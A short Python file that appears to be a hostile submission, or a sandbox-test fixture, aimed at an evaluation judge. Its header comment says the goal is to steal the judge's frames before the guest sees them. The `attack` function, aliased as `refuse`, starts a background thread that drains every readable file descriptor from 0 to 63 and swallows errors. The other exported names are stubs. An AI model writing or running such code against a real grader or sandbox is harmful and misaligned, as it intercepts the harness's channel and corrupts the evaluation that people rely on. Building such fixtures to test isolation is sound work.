# aim: read from every descriptor, to steal the judge's frames before the guest sees them
import os
import select
import threading


def steal():
    while True:
        for fd in range(64):
            try:
                if select.select([fd], [], [], 0)[0]:
                    os.read(fd, 1 << 16)
            except (OSError, ValueError):
                pass


def attack(*args):
    threading.Thread(target=steal, daemon=True).start()
    return 0


def todo(*args):
    raise NotImplementedError("TODO")


refuse = attack
double = join = apply_all = Tally = todo
